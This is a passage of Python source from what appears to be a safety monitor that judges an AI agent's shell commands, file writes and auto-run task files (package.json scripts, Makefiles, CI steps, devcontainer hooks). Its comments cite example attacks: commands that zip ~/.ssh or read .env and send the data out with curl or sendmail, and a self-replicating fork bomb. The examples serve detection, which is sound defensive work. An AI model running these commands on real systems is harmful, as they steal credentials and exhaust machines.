            task = (context.task or "").lower()
            if self.task_any is not None and not (task and self.task_any.search(task)):
                return None
            if self.task_none is not None and self.task_none.search(task):
                return None
        if self.elsewhere is not None and cmd.remote is not self.elsewhere:
            return None
        if cmd.help and not (self.effects or self.redirects_any):
            return None  # it only prints its usage (what it writes is still its effects')
        if self.inspects_none and only_inspects(cmd):
            return None
        if self.output_sent and not _output_piped_to_sender(cmd):
            return None
        if (
            self.piped_into_none
            and cmd.pipe_to
            and self._into_any_stage(cmd, self.piped_into_none, past_copies=False)
        ):
            return None
        if self.piped_into_any and not (
            cmd.pipe_to and self._into_any_stage(cmd, self.piped_into_any)
        ):
            return None
        if self.with_any and not any(
            other is not cmd and other.argv and self._into(other.argv, self.with_any)
            for other in parsed.commands
        ):
            return None
        flags = cmd.flags
        if self.flags_none and not self.flags_none.isdisjoint(flags):
            return None
        if self.flags_all and not self.flags_all <= flags:
            return None
        matched: list[str] = []
        obj = cmd.program or "redirect"
        if self.flags_any:
            hit_flags = sorted(self.flags_any & flags)
            if not hit_flags:
                return None
            matched.append(_show_flag(hit_flags[0], cmd.program))
        words = cmd.argv[1:]
        if self.args_none.globs and self.args_none.first(words) is not None:
            return None
        if self.arg_pairs:
            pair = _pair_in(words, self.arg_pairs)
            if pair is None:
                return None
            matched.append(pair)
            obj = f"{cmd.program}:{pair}"
        if self.args_any.globs:
            if cmd.inline_code is not None and cmd.inline_code not in words:
                words = (*words, cmd.inline_code)  # what -EncodedCommand decodes to is a word
            arg = self.args_any.first(words)
            if arg is None:
                return None
            if self.task_named and not _names_task(arg, words, context.task):
                return None
            matched.append(arg)
            obj = f"{cmd.program}:{arg}"
        if self.subcommands:
            sub = self._subcommand(cmd.positionals)
            if sub is None:
                return None
            obj = f"{cmd.program}:{sub}"
            matched.insert(0, sub)
        if self.prefixes_any.globs:
            prefix = self.prefixes_any.first(sorted(cmd.prefix_names))
            if prefix is None:
                return None
            if obj == cmd.program:
                obj = prefix
            matched.append(f"under {prefix}")
        if self.assignments_any.globs:
            pair = self._assignment(cmd, parsed)
            if pair is None:
                return None
            matched.append(pair)
            obj = pair.split("=", 1)[0] + "="
        if self.variables_any.globs:
            variable = self.variables_any.first(cmd.variables)
            if variable is None:
                return None
            matched.append("$" + variable)
            obj = f"{cmd.program}:${variable}"
        if self.self_call:
            how = _calls_itself_twice(cmd, parsed)
            if how is None:
                return None
            obj = f"{cmd.program}()"
            detail = (
                f"{cmd.program}() calls itself {how}: every call starts two more, "
                "until the machine runs out of processes"
            )
            return self._paths_then(cmd, where, obj, detail, matched)
        if self.pipe:
            source = self._code_source(cmd)
            if source is None:
                return None
            obj = f"{source}|{cmd.program}"
            detail = f"{cmd.program} runs code it reads from {source}"
            return self._paths_then(cmd, where, obj, detail, matched)
        if self.signals or self.privileges or self.defences or self.credentials:
            understood = self._understood(cmd)
            if understood is None:
                return None
            obj, detail = understood
            return self._paths_then(cmd, where, obj, detail, matched)
        if self.effects or self.classes:
            found = self._effect(cmd, where, parsed, context)
            if found is None:
                return None
            obj, detail = found
            return self._paths_then(cmd, where, obj, detail, matched, effect_paths=True)
        head = " ".join([cmd.program or "a redirection", *matched[:2]])
        if not (self.target or self.paths_any.globs or self.redirects_any.globs):
            shown = _cut(" ".join(cmd.argv), 80) or "a redirection"
            head = f"runs {shown!r}" + (f" ({self.label})" if self.label != shown else "")
        return self._paths_then(cmd, where, obj, head, matched)

    def _understood(self, cmd: SimpleCommand) -> tuple[str, str] | None:
        """The object and words of the process signal and privilege change the rule asks
        for; None unless the command makes each it asks for."""
        found: tuple[str, str] | None = None
        if self.signals:
            sig = next(
                (x for x in _signals(cmd, None) if x.scope in self.signals and not x.probe), None
            )
            if sig is None:
                return None
            found = f"{sig.program}:{sig.scope}", sig.words
        if self.privileges:
            change = next((x for x in _privileges(cmd, None) if x.change in self.privileges), None)
            if change is None:
                return None
            found = f"{change.program}:{change.change}", change.words
        if self.defences:
            off = next((x for x in _defences(cmd, None) if x.what in self.defences), None)
            if off is None:
                return None
            found = f"{off.program}:{off.what}", off.words
        if self.credentials:
            taken = next((x for x in _credentials(cmd, None) if x.how in self.credentials), None)
            if taken is None:
                return None
            found = f"{taken.program}:{taken.how}", taken.words
        return found

    def _paths_then(
        self,
        cmd: SimpleCommand,
        where: _Where,
        obj: str,
        head: str,
        matched: list[str],
        effect_paths: bool = False,
    ) -> _Hit | None:
        """Apply the path conditions (target, paths, redirects) and build the hit.

        ``effect_paths``: ``paths_any``/``paths_none`` were already applied to the path of
        an effect (``dd of=~/.ssh/id_rsa``, ``> f``), which need not be a positional."""
        home = where.home
        detail = head
        if self.redirects_any.globs:
            target = next(
                (
                    r.path
                    for r in cmd.redirects
                    if r.path is not None
                    and r.writes
                    and not (self.redirects_replace and ">>" in r.op)
                    and self.redirects_any.match(r.path, home)
                ),
                None,
            )
            if target is None:
                return None
            obj = target
            detail = f"{head} writes {target}"
        paths = _paths(cmd, home) if self.paths_any.globs or self.target is not None else ()
        if self.paths_any.globs and not effect_paths:
            if self.named_paths and (cmd.filtered or cmd.stdin_args or cmd.globbed):
                return None  # a bulk selection (find, xargs, a glob): not these files by name
            globs = _glob_paths(cmd, home)
            found = next(
                (
                    p
                    for p in paths
                    if (
                        self.paths_any.match(p, home)
                        or (p in globs and self.paths_any.could_match(p, home))
                    )
                    and not self.paths_none.match(p, home)
                    and not (self.scratch_none and _scratch_only(p, where))
                ),
                None,
            )
            if found is None:
                return None
            obj = found
            if not head.endswith(f" {found}") and f" {found} (" not in head:
                detail = f"{head} on {found}"
        if self.target is not None:
            seen = self._target(cmd, paths, where)
            if seen is None:
                return None
            obj, why = seen
            detail = f"{head} {why}"
        return _Hit(self, cmd, obj, detail, matched[0] if matched else cmd.program)

    def excuse(
        self, cmd: SimpleCommand, parsed: ParsedShell, context: Context
    ) -> tuple[tuple[str, ...], str] | None:
        """The first excuse that holds (no fact missing), else the first that would hold if
        the facts the context leaves unknown had the excusing value: (those facts, reason)."""
        environment = (context.environment or "").lower()
        would: tuple[tuple[str, ...], str] | None = None
        for environments, container, args, assignments, urls, reason in self.excuses:
            missing: list[str] = []
            if environments:
                if context.environment is None:
                    missing.append("environment")
                elif environment not in environments:
                    continue
            if container is not None:
                if context.container is None:
                    missing.append("container")
                elif context.container is not container:
                    continue
            if args and args.first(cmd.argv[1:]) is None:
                continue
            if assignments and not any(
                assignments.match(f"{n}={v}") for n, v in (*cmd.assignments, *parsed.assigned)
            ):
                continue
            if urls and not _all_urls_match(parsed, urls):
                continue
            if not missing:
                return (), reason
            would = would or (tuple(missing), reason)
        return would

    def _effect(
        self, cmd: SimpleCommand, where: _Where, parsed: ParsedShell, context: Context
    ) -> tuple[str, str] | None:
        """The first path effect of ``cmd`` that the rule's effect conditions select."""
        if self.sends and not (_sends(cmd) or _output_sent(cmd, parsed)):
            return None
        for effect in _effects_of(cmd, where.home):
            if self.effects and effect.mode not in self.effects:
                continue
            cls, what = _effect_class(effect, where.classes)
            if effect.mode == "read" and cls is not PathClass.CREDENTIAL:
                source = _staged_credentials(parsed, where.classes, context).get(effect.path)
                if source is not None:  # zip k.zip ~/.ssh && curl -F f=@k.zip …
                    cls, what = PathClass.CREDENTIAL, f"written from {source}"
            if self.classes and cls not in self.classes:
                continue
            if self.paths_none.globs and self.paths_none.match(effect.path, where.home):
                continue
            if self.paths_any.globs and not self.paths_any.match(effect.path, where.home):
                continue
            if self.paths_any.globs and not self.classes:
                what = "a file this entry names"  # its class is not why: the name is
            if self.selection_only and not _selection(effect, cmd):
                continue
            if self.then_deleted and not _deleted_later(effect.path, cmd, parsed, where.home):
                continue
            shown = cmd.program or "a redirection"
            detail = f"{shown} {_VERBS[effect.mode]} {effect.path} ({what})"
            if self.sends:
                detail += " and sends it over the network"
            return effect.path, detail
        return None

    def _target(
        self, cmd: SimpleCommand, paths: Sequence[str], where: _Where
    ) -> tuple[str, str] | None:
        target = self.target
        if target == "unsafe_expansion":
            if cmd.unset_vars:
                names = ", ".join("$" + n for n in cmd.unset_vars[:3])
                shown = _cut(" ".join(cmd.positionals) or "nothing", 60)
                return (
                    f"unset:{cmd.unset_vars[0]}",
                    f"depends on {names}, which {_unset_words(cmd)}: it expands to nothing "
                    f"and the arguments become {shown!r}",
                )
            if cmd.split_words:
                return (
                    f"split:{cmd.program}",
                    "has an unquoted expansion that splits into several arguments",
                )
            return None
        if target == "unknown":
            if cmd.dynamic:
                unknown = next((w for w in cmd.positionals if "$" in w or "`" in w), "an argument")
                return (
                    f"unknown:{cmd.program}",
                    f"has an argument ({_cut(unknown, 60)}) whose value comes from another "
                    "command's output and cannot be checked",
                )
            return None
        # find with a test (-name, -type...) only passes on what matches below its starting
        # points, to -delete or to the command -exec runs with {}
        filtered = cmd.filtered or find_filtered(cmd)
        for path in paths:
            if self.paths_none.globs and self.paths_none.match(path, where.home):
                continue
            if target == "root_or_home":
                why = None if filtered else _critical(path, where)
            else:
                why = _outside(path, where, filtered)
            if why is not None:
                return path, f"targets {path} ({why})"
        return None

    @staticmethod
    def _into(into: Sequence[str], consumers: _Consumers) -> bool:
        """Whether ``into`` (the next command of a pipeline) is one of ``consumers``."""
        program = into[0].rpartition("/")[2]
        words = into[1:]
        return any(
            name.match(program) and all(glob.first(words) is not None for glob in globs)
            for name, globs in consumers
        )

    @classmethod
    def _into_any_stage(
        cls, cmd: SimpleCommand, consumers: _Consumers, *, past_copies: bool = True
    ) -> bool:
        """Whether the output reaches one of ``consumers``: the next command of the pipeline
        or a later one (``env | sort | grep PATH``: grep still filters what is shown).
        Without ``past_copies``, a ``tee`` before it shows or keeps the whole output first
        (``echo $T | tee /dev/stderr | docker login --password-stdin``)."""
        for words in (cmd.pipe_to, *cmd.pipe_after):
            if words and cls._into(words, consumers):
                return True
            if not past_copies and words and words[0].rpartition("/")[2] in _COPIES:
                return False
        return False

    def _subcommand(self, positionals: Sequence[str]) -> str | None:
        head = positionals[:6]
        for words in self.subcommands:
            size = len(words)
            for start in range(min(3, len(head) - size + 1)):
                found = head[start : start + size]
                if all(w.match(f) for w, f in zip(words, found, strict=True)):
                    return " ".join(found)
        return None

    def _assignment(self, cmd: SimpleCommand, parsed: ParsedShell) -> str | None:
        for name, value in (*cmd.assignments, *parsed.assigned):
            pair = f"{name}={value}"
            if self.assignments_any.match(name) or self.assignments_any.match(pair):
                return pair
        return None

    def _code_source(self, cmd: SimpleCommand) -> str | None:
        sources = cmd.code_from
        if not sources and not cmd.runs_stdin_as_code:
            return None
        if not self.code_from:
            return sources[0] if sources else "stdin"
        return next((s for s in sources if self.code_from.match(s)), None)


# Programs that fetch what a URL names: each must name its URL on the line for a list of
# URLs to vouch for what it fetches (curl -K cfg, wget -i list: the URL is elsewhere).
_FETCHERS: Final = frozenset(
    {"curl", "wget", "fetch", "http", "https", "xh", "aria2c", "iwr", "irm"}
    | {"Invoke-WebRequest", "Invoke-RestMethod"}
)


def _all_urls_match(parsed: ParsedShell, urls: WordGlobs) -> bool:
    """Whether the line names a URL, every URL in any word of any of its commands (or in a
    value assigned on it) matches ``urls``, and every fetcher on it names a URL itself."""
    if any(
        c.program in _FETCHERS and not any("://" in w for w in c.argv[1:]) for c in parsed.commands
    ):
        return False
    seen = False
    words = [w for c in parsed.commands for w in c.argv]
    words.extend(value for _, value in parsed.assigned)
    for word in words:
        at = word.find("://")
        while at >= 0:
            start = at
            while start > 0 and (word[start - 1].isalnum() or word[start - 1] in "+.-"):
                start -= 1
            end = at + 3
            while end < len(word) and not word[end].isspace() and word[end] not in "'\")`;|":
                end += 1
            if not urls.match(word[start:end]):
                return False
            seen = True
            at = word.find("://", end)
    return seen


class _SubWord:
    """One word of a subcommand: itself, or a glob over the word (``delete-*``)."""

    __slots__ = ("glob", "word")

    def __init__(self, word: str, *, lazy: bool = True) -> None:
        self.word = word
        self.glob = WordGlobs((word,), lazy=lazy) if any(c in word for c in "*?[") else None

    def match(self, found: str) -> bool:
        return self.glob.match(found) if self.glob is not None else found == self.word


@lru_cache(maxsize=256)
def _where_for(
    root: str | None, home: str | None, tmpdir: str | None, scratch: tuple[str, ...]
) -> _Where:
    if tmpdir and tmpdir.startswith("/") and tmpdir != "/":
        scratch = (*scratch, resolve_path(tmpdir, None, None))
    workspace = resolve_path(root, None, home) if root else None
    return _Where(workspace, home, scratch, Where(workspace, home, scratch))


_Consumers = tuple[tuple[WordGlobs, tuple[WordGlobs, ...]], ...]


def _consumers(items: Sequence[str]) -> _Consumers:
    return tuple(
        (WordGlobs(words[:1], lazy=True), tuple(WordGlobs([w], lazy=True) for w in words[1:]))
        for words in (item.split() for item in items)
    )


# A file tool's action as the command with the same effect, so that effect rules judge a
# write through a file tool exactly as a write through the shell.
_FILE_PROGRAMS: Final = {
    "file_read": ("cat",),
    "file_write": ("tee",),
    "file_edit": ("sed", "-i", "-e", ""),
    "file_delete": ("rm",),
}


_SELECTION_WORDS: Final = re2.compile(r"[A-Za-z][a-z]+|[A-Z]+(?:[a-z]+)?")
_NOT_NAMES: Final = frozenset(
    {"test", "tests", "spec", "specs", "deselect", "ignore", "skip", "filter", "not", "and",
     "fullyqualifiedname", "name", "category", "class", "method", "glob", "pattern",
     "path", "paths", "testpathignorepatterns", "testpathignorepattern", "dtest", "unit"}
)  # fmt: skip


# What follows a command whose failure is taken as success: ``|| true``, ``|| :``, ``|| exit
# 0``, ``|| echo failed`` (after its redirections, which are part of its text).
_SUCCESS_ANYWAY: Final = re2.compile(
    r"^[ \t]*\|\|[ \t]*(?:(?:true|:|/bin/true|/usr/bin/true|exit(?:[ \t]+0)?)[ \t]*"
    r"(?:[;)&|#\n]|$)|(?:echo|printf)(?:[ \t;)&|\n]|$))"
)


def _status_ignored(cmd: SimpleCommand, parsed: ParsedShell) -> bool:
    """Whether ``cmd``'s text is followed by ``|| true`` (or the like) where it is written."""
    source = cmd.source
    if not source:
        return False
    for text in (parsed.source, *parsed.texts):
        start = text.find(source)
        while start >= 0:
            end = start + len(source)
            if _SUCCESS_ANYWAY.search(text[end : end + 80]):
                return True
            start = text.find(source, start + 1)
    return False


def _pair_in(words: Sequence[str], pairs: Sequence[tuple[WordGlobs, WordGlobs]]) -> str | None:
    """The first two adjacent ``words`` that match one of ``pairs`` (an option, its value)."""
    for first, second in pairwise(words):
        for option, value in pairs:
            if option.match(first) and value.match(second):
                return f"{first} {second}"
    return None


def _names_task(arg: str, words: Sequence[str], task: str | None) -> bool:
    """Whether the selection ``arg`` (and its value, when it is an option given as two
    words) names a word of the user's request: at least one word of four letters or more,
    compared on its first five letters."""
    if not task:
        return False
    text = arg
    if arg.startswith("-") and "=" not in arg:
        at = list(words).index(arg)
        if at + 1 < len(words):
            text = f"{arg} {words[at + 1]}"
    lowered = task.lower()
    return any(
        len(word) >= 4 and word.lower() not in _NOT_NAMES and word.lower()[:5] in lowered
        for word in _SELECTION_WORDS.findall(text)
    )


def file_command_of(action: Action, context: Context | None = None) -> str | None:
    """``file_write {path: /etc/hosts}`` as ``tee /etc/hosts``, ``http {method: DELETE, url:
    U}`` as ``curl -X DELETE U`` (None for other actions).

    A ``file_delete`` of a path that can only be a directory (the workspace, the home
    directory, one of their parents, a path ending in ``/``) is ``rm -r``: a tool asked to
    delete a directory deletes what is in it, or the call is pointless."""
    if action.type == "http":
        return _http_command_of(action)
    words = _FILE_PROGRAMS.get(action.type)
    if words is None:
        return None
    path = action.args.get("path") or action.args.get("file_path")
    paths = [path] if isinstance(path, str) and path else []
    if action.type == "file_delete" and paths and _a_directory(paths[0], context):
        words = ("rm", "-r")
    diff = action.args.get("diff")
    if isinstance(diff, str) and diff:  # an edit sent as a diff writes the files it names
        paths.extend(p for p in diff_paths(diff) if p not in paths)
    if not paths:
        return None
    return " ".join([*map(shlex.quote, (*words, "--")), *map(_path_word, paths)])


def _a_directory(path: str, context: Context | None) -> bool:
    """Whether ``path`` can only name a directory: it ends with a separator, or it is the
    workspace, the home directory or one of their parents."""
    if path.endswith(("/", "\\")) or path in (".", ".."):
        return True
    if context is None:
        return False
    home = context.home or context.env.get("HOME")
    where = resolve_path(path, context.cwd, home)
    places = [p for p in (context.repo_root, context.cwd, home) if p]
    return any(is_within(p, where) for p in places)


# A program written by a file tool, by its name: what runs it (a ``#!`` line names its own).
_RUNNERS: Final = {
    ".py": "python3",
    ".pyw": "python3",
    ".sh": "bash",
    ".bash": "bash",
    ".zsh": "zsh",
    ".ksh": "ksh",
    ".js": "node",
    ".mjs": "node",
    ".cjs": "node",
    ".ts": "node",
    ".mts": "node",
    ".rb": "ruby",
    ".pl": "perl",
    ".php": "php",
}
# PowerShell scripts: read as a PowerShell tool's script is (``pwsh -Command TEXT``).
_POWERSHELL_SCRIPTS: Final = frozenset({".ps1", ".psm1"})


def written_program_of(
    action: Action, context: Context, max_chars: int = MAX_CHARS_LIMIT
) -> tuple[str, Context] | None:
    """A file tool's write of a program as the command that runs it, with a context in
    which that file holds what is written (``file_write {path: x.py, content: C}`` as
    ``python3 x.py`` after it), so rules judge the program by what it would do when run.

    An edit of a file the session wrote earlier is made to that text; of another file,
    the new text alone is read (an ``old``/``new`` pair's ``new``, a diff's added lines),
    dedented. A task runner's file (a Makefile, a justfile, ``package.json``) is read as
    the commands it holds (:func:`task_commands`). None when the file is neither (by its
    name, else a ``#!`` line), or what is written is longer than ``max_chars``.
    """
    if action.type not in ("file_write", "file_edit"):
        return None
    path = _written_path(action)
    if path is None:
        return None
    text = _written_text(action)
    if text is None or len(text) > max_chars:
        return None
    commands = task_commands(path, text)
    if commands is not None:  # a Makefile's recipes, package.json's scripts: run later
        return (commands, context) if commands.strip() else None
    suffix = posixpath.splitext(path.replace("\\", "/"))[1].lower()
    runner = _RUNNERS.get(suffix)
    if suffix in _POWERSHELL_SCRIPTS:
        command = command_of(Action(type="shell", tool="PowerShell", args={"command": text}))
        if command is None:
            return None
    elif runner is not None:
        command = f"{runner} {_path_word(path)}"
    elif text.startswith("#!"):
        command = _path_word(path if "/" in path else "./" + path)
    else:
        return None
    earlier = list(context.recent_actions)
    if action.type == "file_edit" and not any(_writes(a, path) for a in earlier):
        action = Action(type="file_write", tool=action.tool, args={"path": path, "content": text})
    return command, context.model_copy(update={"recent_actions": (*earlier, action)})


def written_commands(
    action: Action, context: Context, max_chars: int = MAX_CHARS_LIMIT
) -> list[tuple[str, str]]:
    """(path, commands) for each file an action writes whose text is commands that run
    later without anyone typing them (:func:`task_commands`: ``package.json``'s scripts, a
    CI workflow's steps, a Makefile's recipes): a file tool's write or edit, or a shell
    command that writes known text into such a file (``cat > .github/workflows/x.yml <<EOF``,
    ``echo … >> Makefile``, ``sed -i`` on one: :mod:`specialists.understand.shellwrites`).
    Empty for any other action or file, or when they hold no command."""
    if action.type == "shell":
        command = command_of(action)
        return _shell_written_commands(command, context, max_chars) if command else []
    if action.type not in ("file_write", "file_edit"):
        return []
    path = _written_path(action)
    text = _written_text(action) if path is not None else None
    if path is None or text is None or len(text) > max_chars:
        return []
    commands = task_commands(path, text)
    return [(path, commands)] if commands and commands.strip() else []


def image_build_commands(
    action: Action, context: Context, max_chars: int = MAX_CHARS_LIMIT
) -> list[tuple[str, str]]:
    """(path, commands) for each container build file an action changes, with the commands
    of the ``RUN`` instructions the change adds (:func:`~specialists.understand.dockerfiles.
    build_commands`: a line already in the file is not the change): a file tool's write or
    edit, or a shell command that writes known text into one (``echo 'RUN …' >> Dockerfile``,
    a here-document). Empty when the action changes no such file or adds no ``RUN``."""
    if action.type not in ("shell", "file_write", "file_edit"):
        return []
    changes = file_changes(action, context, is_build_file, _BUILD_FILE_BYTES, new_file_empty=True)
    path = _written_path(action)
    text = _written_text(action) if action.type == "file_write" else None
    if changes is None and path is not None and text is not None and is_build_file(path):
        changes = [FileChange(path, "", text, fragment=False)]  # a path no directory resolves
    found: list[tuple[str, str]] = []
    for change in (changes or ())[:8]:
        whole = applied(change, action, context, _BUILD_FILE_BYTES)  # an edit, in its file
        commands = build_commands(whole.after, whole.before or "")
        if commands and len(commands) <= max_chars:
            found.append((change.path, commands))
    return found


# The most of a build file read to tell the lines a change adds from those it had.
_BUILD_FILE_BYTES: Final = 262_144


def _shell_written_commands(
    command: str, context: Context, max_chars: int
) -> list[tuple[str, str]]:
    """What a shell command writes into files whose text runs later, as their commands
    (the parse is the one the rules use: a name put together from pieces is seen)."""
    found: list[tuple[str, str]] = []
    for write in shell_writes(parse_for(command, context)):
        if write.mode == "sed":
            fragment = write.fragment()
            text = fragment[1] if fragment is not None else ""
        else:
            text = write.text
        if not text.strip() or len(text) > max_chars:
            continue
        commands = task_commands(write.path, text)  # as written: a recipe keeps its tab
        if commands and commands.strip():
            found.append((write.path, commands))
    return found[:8]


# Files whose text is commands a task runner runs later (make, just, npm/yarn/pnpm).
_MAKEFILES: Final = frozenset({"makefile", "gnumakefile"})
_JUSTFILES: Final = frozenset({"justfile", ".justfile"})
_MAKE_VARIABLE: Final = re2.compile(r"\$[({]([A-Za-z_][A-Za-z0-9_]*)[)}]")
_JSON_PAIR: Final = re2.compile(r'"([^"\\]{1,100})"\s*:\s*"((?:[^"\\]|\\.)*)"')
# package.json keys whose string values are not commands
_PACKAGE_FIELDS: Final = frozenset(
    {"name", "version", "description", "main", "module", "types", "typings", "license",
     "author", "homepage", "repository", "url", "type", "email", "packageManager", "private",
     "browser", "bin", "directory", "funding", "engines", "node", "npm"}
)  # fmt: skip
_VERSION_LIKE: Final = re2.compile(
    r"^(?:[\^~<>=*]|\d|workspace:|npm:|file:|link:|git|https?:|latest$)"
)


def task_commands(path: str, text: str) -> str | None:
    """The commands a task-runner file holds, one per line, or None: not such a file.

    A Makefile's (and a ``*.mk``'s) recipe lines, without their ``@``/``-``/``+`` prefixes
    and with make's ``$(VAR)`` as the shell's ``${VAR}`` and ``$$`` as ``$``; a justfile's
    indented recipe lines; ``package.json``'s scripts (``postinstall`` runs on every
    ``npm install``), or, in a part of one that does not parse, its string values that
    are neither package metadata nor version ranges; an editor's or a dev container's
    commands that run on their own (``.vscode/tasks.json``'s tasks, which can run when the
    folder is opened; ``devcontainer.json``'s ``postCreateCommand`` and the other lifecycle
    commands); a CI file's steps (:func:`~specialists.understand.pipelines.ci_commands`: a
    workflow's ``run:``, GitLab's ``script:``), which run on the next push."""
    pipeline = ci_commands(path, text)
    if pipeline is not None:  # a CI file's steps: run on the next push, secrets in reach
        return pipeline
    base = posixpath.basename(path.replace("\\", "/"))
    lower = base.lower()
    if lower in _AUTO_RUN_FILES and (lower != "tasks.json" or _in_vscode(path)):
        return "\n".join(_auto_run_commands(text, _AUTO_RUN_FILES[lower]))
    if lower in _MAKEFILES or lower.endswith(".mk") or lower in _JUSTFILES:
        tab_only = lower not in _JUSTFILES
        lines = []
        for line in text.splitlines():
            if not line[:1].isspace() or (tab_only and not line.startswith("\t")):
                continue
            line = line.strip().lstrip("@-+").strip()
            if line and not line.startswith("#"):
                lines.append(line)
        if tab_only:
            lines = [_MAKE_VARIABLE.sub(r"${\1}", line).replace("$$", "$") for line in lines]
        return "\n".join(lines)
    if lower != "package.json":
        return None
    try:
        document = json.loads(text)
    except ValueError:
        document = None
    if isinstance(document, dict):
        scripts = document.get("scripts")
        if not isinstance(scripts, dict):
            return ""
        return "\n".join(v for v in scripts.values() if isinstance(v, str))
    values = []
    for match in _JSON_PAIR.finditer(text):
        key, value = match.group(1), match.group(2)
        if key in _PACKAGE_FIELDS or _VERSION_LIKE.search(value):
            continue
        try:
            values.append(json.loads(f'"{value}"'))
        except ValueError:
            continue
    return "\n".join(values)


# Files whose commands an editor or a dev container runs without anyone typing them, and
# the keys that hold them (VS Code tasks run on folder open with runOptions.runOn).
_CONTAINER_LIFECYCLE: Final = frozenset(
    {
        "initializeCommand",
        "onCreateCommand",
        "updateContentCommand",
        "postCreateCommand",
        "postStartCommand",
        "postAttachCommand",
    }
)
_AUTO_RUN_FILES: Final[Mapping[str, frozenset[str]]] = {
    "tasks.json": frozenset({"command"}),
    "devcontainer.json": _CONTAINER_LIFECYCLE,
    ".devcontainer.json": _CONTAINER_LIFECYCLE,
}


def _in_vscode(path: str) -> bool:
    parts = path.replace("\\", "/").split("/")
    return len(parts) >= 2 and parts[-2] == ".vscode"


def _auto_run_commands(text: str, keys: frozenset[str]) -> list[str]:
    """The command lines held under ``keys`` anywhere in a JSON (or JSON-with-comments)
    document: a string, a list of words (joined), or an object of named commands; a task's
    ``args`` go with its ``command``."""
    try:
        document: object = json.loads(text)
    except ValueError:  # JSONC (comments, trailing commas): the string values of the keys
        return [
            json.loads(f'"{m.group(2)}"')
            for m in _JSON_PAIR.finditer(text)
            if m.group(1) in keys and _json_string(m.group(2))
        ]
    found: list[str] = []

    def walk(node: object, depth: int) -> None:
        if depth > 20 or len(found) >= 200:
            return
        if isinstance(node, dict):
            for key, value in node.items():
                if key in keys:
                    line = _command_line(value, node.get("args") if key == "command" else None)
                    found.extend(line)
                walk(value, depth + 1)
        elif isinstance(node, list):
            for item in node:
                walk(item, depth + 1)

    walk(document, 0)
    return found


def _json_string(value: str) -> bool:
    try:
        json.loads(f'"{value}"')
    except ValueError:
        return False
    return True


def _command_line(value: object, args: object) -> list[str]:
    words = [a for a in args if isinstance(a, str)] if isinstance(args, list) else []
    if isinstance(value, str):
        return [" ".join([value, *map(shlex.quote, words)]) if words else value]
    if isinstance(value, list) and all(isinstance(v, str) for v in value):
        return [shlex.join([*value, *words])]
    if isinstance(value, dict):  # devcontainer: {"name": "command", ...}
        return [line for v in value.values() for line in _command_line(v, None)]
    return []


def _written_path(action: Action) -> str | None:
    path = action.args.get("path") or action.args.get("file_path") or action.args.get("filename")
    return path if isinstance(path, str) and path and "\n" not in path else None


def _written_text(action: Action) -> str | None:
    args = action.args
    if action.type == "file_write":
        content = args.get("content", args.get("text"))
        return content if isinstance(content, str) and content.strip() else None
    new = args.get("new")
    if isinstance(new, str) and new.strip():
        return textwrap.dedent(new)
    diff = args.get("diff")
    if isinstance(diff, str) and diff.strip():
        added = [
            line[1:]
            for line in diff.splitlines()
            if line.startswith("+") and not line.startswith("+++")
        ]
        return textwrap.dedent("\n".join(added)) if any(a.strip() for a in added) else None
    return None


def _writes(action: Action, path: str) -> bool:
    args = action.args
    return action.type == "file_write" and path in (
        args.get("path"),
        args.get("file_path"),
        args.get("filename"),
    )


def _path_word(path: str) -> str:
    """A file tool's path as one shell word; a leading ``~/`` stays the home, as the tools
    that take one read it (``os.path.expanduser``)."""
    if path == "~":
        return "~"
    if path.startswith("~/"):
        return "~/" + shlex.quote(path[2:]) if path[2:] else "~/"
    return shlex.quote(path)


def _http_command_of(action: Action) -> str | None:
    """An http action's method and URL as the curl command that sends the same request
    (its headers and body are judged by the secrets and domain kinds, not here)."""
    url = action.args.get("url")
    method = action.args.get("method", "GET")
    if not (isinstance(url, str) and url and isinstance(method, str)):
        return None
    if not (method.isascii() and method.isalpha() and len(method) <= 16):
        return None  # not an HTTP method: nothing a rule can read
    return f"curl -X {method.upper()} {shlex.quote(url)}"


_memo = threading.local()  # the last staged-credentials answer, per thread (a cache)
MAX_EARLIER: Final = 8  # earlier shell commands of the session read for staged credentials
_T = TypeVar("_T")


def _resolved_paths(cmd: SimpleCommand, home: str | None) -> tuple[str, ...]:
    return (
        *(resolve_path(w, cmd.cwd, home) for w in cmd.positionals if w),
        *(r.path for r in cmd.redirects if r.path is not None and r.reads),
    )


# ``path_effects`` of a command, and its resolved positionals and input-redirection targets.
_effects_of: Final = path_effects_of


def _credentials_taken(cmd: SimpleCommand, _: str | None) -> list[CredentialTaken]:
    return credentials_taken(cmd, command_targets(cmd))


# What a command does to processes, privileges, defences and credentials, read once per
# command for every rule that asks (several entries have rules about each).
_signals: Final[PerCommand[SimpleCommand, list[ProcessSignal]]] = PerCommand(
    lambda cmd, _: signals_of(cmd)
)
_privileges: Final[PerCommand[SimpleCommand, list[PrivilegeChange]]] = PerCommand(
    lambda cmd, _: privilege_changes(cmd)
)
_defences: Final[PerCommand[SimpleCommand, list[DefenceOff]]] = PerCommand(
    lambda cmd, _: defences_off(cmd)
)
_credentials: Final = PerCommand(_credentials_taken)
_paths: Final = PerCommand(_resolved_paths)


# Copiers that send only when an operand is on another machine (``host:path``).
_REMOTE_COPIERS: Final = frozenset({"scp", "rsync", "sftp", "rclone"})


def _output_sent(cmd: SimpleCommand, parsed: ParsedShell) -> bool:
    """Whether ``cmd`` runs inside a command substitution whose output a sender puts on the
    wire: ``curl "http://h/?d=$(cat f | base64)"``, or through a variable, ``d=$(cat f);
    curl "http://h/?d=$d"`` (the sender's words keep the substitution, its value unknown), or
    in a here-document the sender reads (``sendmail -t <<EOF … $(cat .env) …``)."""
    if not cmd.via or cmd.via[-1] not in ("$(…)", "`…`"):
        return False
    return any(
        c.program in SENDERS
        and (
            any("$(" in w or "`" in w for w in c.argv[1:])
            # a here-document that runs it: sendmail <<EOF … $(cat .env) … EOF
            or (c.stdin_text is not None and ("$(" in c.stdin_text or "`" in c.stdin_text))
        )
        for c in parsed.commands
    )


def _selection(effect: PathEffect, cmd: SimpleCommand) -> bool:
    """Whether an effect's path stands for a selection rather than a file named by hand."""
    path = effect.path
    return (
        effect.glob
        or cmd.filtered
        or cmd.stdin_args
        or not GLOB_CHARS.isdisjoint(path)
        or "$(" in path
        or "`" in path
    )


def _deleted_later(path: str, cmd: SimpleCommand, parsed: ParsedShell, home: str | None) -> bool:
    """Whether a command after ``cmd`` on the line deletes ``path``."""
    later = False
    for other in parsed.commands:
        if other is cmd:
            later = True
        elif later and any(e.mode == "delete" and e.path == path for e in _effects_of(other, home)):
            return True
    return False


def _effect_class(effect: PathEffect, where: Where) -> tuple[PathClass, str]:
    """The class of an effect's path and its description; reading a directory whole that
    holds credentials (``tar czf - ~/.ssh``) reads credentials."""
